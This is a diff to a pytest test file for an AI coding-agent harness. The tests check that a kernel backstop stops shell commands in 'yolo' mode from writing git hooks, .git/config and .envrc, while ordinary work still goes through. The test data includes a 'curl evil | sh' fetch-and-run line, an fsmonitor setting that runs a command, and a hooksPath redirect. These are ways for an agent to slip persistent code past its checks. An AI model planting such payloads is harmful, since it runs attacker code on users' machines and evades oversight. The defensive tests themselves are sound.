@@ -27,7 +27,13 @@ import pexpect
 import pytest
 
 from tests.coordinator.e2e import rules_scenario
-from tests.support import Specrun, make_sample_project, running_service
+from tests.support import (
+    Specrun,
+    containment_unavailable,
+    make_sample_project,
+    running_service,
+)
+from worker.contain.backstop import unavailable
 
 FSMONITOR = "[core]\n\tfsmonitor = touch /tmp/specrun-fsmonitor-ran\n"
 WRITES = {
@@ -271,3 +277,82 @@ def test_a_yes_on_a_terminal_runs_the_protected_shell_write_once_in_yolo(
     finally:
         specrun.run("stop")
     assert _snapshot(specrun.project, rel) == b"curl evil | sh\n"
+
+
+def _ask_in_yolo(specrun: Specrun, tmp_path: Path, command: str) -> list[dict[str, object]]:
+    """A service of the test's own (these tests change the project's Makefile and git
+    config, which the module's shared service must not see)."""
+    call = {"name": "run_shell_command", "arguments": {"command": command}}
+    specrun.run("start", "--approval-mode", "yolo", "--scenario",
+                str(_calling(tmp_path, call)), check=True)
+    try:
+        lines: list[dict[str, object]] = specrun.json_lines("ask", "set it up", timeout=60)
+    finally:
+        specrun.run("stop")
+    return lines
+
+
+# Commands whose command line names no protected path: they run in yolo unasked, and the
+# kernel backstop (worker/contain/backstop.py) keeps what they compute at run time away.
+RUN_TIME_WRITES = {
+    "Makefile recipe": ("make -s hooks", ".git/hooks/post-checkout"),
+    "variable path": ("f=.git/config; printf '[core]\\n\\tfsmonitor = touch /tmp/p\\n' >> \"$f\"",
+                      ".git/config"),
+    "hooksPath from a Makefile recipe": ("make -s hookspath", ".git/config"),
+    "python one-liner": ("python3 -c \"open('.envrc', 'w').write('curl evil | sh')\"",
+                         ".envrc"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(RUN_TIME_WRITES))
+def test_a_path_computed_at_run_time_is_not_written_in_yolo(
+    specrun: Specrun, tmp_path: Path, case: str
+) -> None:
+    if (why := unavailable()) is not None:
+        containment_unavailable(why)
+    command, rel = RUN_TIME_WRITES[case]
+    (specrun.project / "yolo.json").write_text('{"approvalMode": "yolo"}\n')
+    (specrun.project / "Makefile").write_text(
+        "hooks:\n\techo 'touch /tmp/p' > .git/hooks/post-checkout\n"
+        "hookspath:\n\tk=core.hooksPath; git config $$k .evil\n")
+    before = _snapshot(specrun.project, rel)
+    lines = _ask_in_yolo(specrun, tmp_path, command)
+    assert _snapshot(specrun.project, rel) == before, f"{command!r} wrote {rel} in yolo"
+    said = json.dumps([ln for ln in lines if ln.get("type") == "tool"])
+    assert any(words in said for words in (
+        "specrun kept this command from writing", "specrun removed", "specrun put")), said
+
+
+# Daily work whose command line names nothing protected, writing what runs later or git's
+# config: runs in yolo unasked and is kept (the backstop no longer holds those files).
+DAILY_WORK = {
+    "git push -u": ("git push -q -u origin HEAD", ".git/config", "remote = origin"),
+    "configure script": ("sh configure && make -s", "made.txt", ""),
+    "manifest edit": ("python3 add_dep.py", "package.json", "left-pad"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(DAILY_WORK))
+def test_daily_work_writing_what_runs_later_is_kept_in_yolo(
+    specrun: Specrun, tmp_path: Path, case: str
+) -> None:
+    if (why := unavailable()) is not None:
+        containment_unavailable(why)
+    command, rel, holds = DAILY_WORK[case]
+    project = specrun.project
+    for args in (["config", "user.name", "Probe"], ["config", "user.email", "p@example.com"],
+                 ["commit", "-q", "--allow-empty", "-m", "base"],
+                 ["init", "-q", "--bare", str(tmp_path / "origin.git")],
+                 ["remote", "add", "origin", str(tmp_path / "origin.git")]):
+        subprocess.run(["git", "-C", str(project), *args], check=True, capture_output=True)
+    (project / "configure").write_text("printf 'all:\\n\\ttouch made.txt\\n' > Makefile\n")
+    (project / "package.json").write_text('{"name": "probe"}\n')
+    (project / "add_dep.py").write_text(
+        "import json\nd = json.load(open('package.json'))\nd['dependencies'] = "
+        "{'left-pad': '1'}\njson.dump(d, open('package.json', 'w'))\n")
+    lines = _ask_in_yolo(specrun, tmp_path, command)
+    tool = [ln for ln in lines if ln.get("type") == "tool"]
+    said = json.dumps(tool)
+    assert [ln for ln in tool if ln.get("status") == "success"], said
+    assert "specrun " not in said, said  # no refusal, nothing removed or put back
+    assert holds in (project / rel).read_text(), said
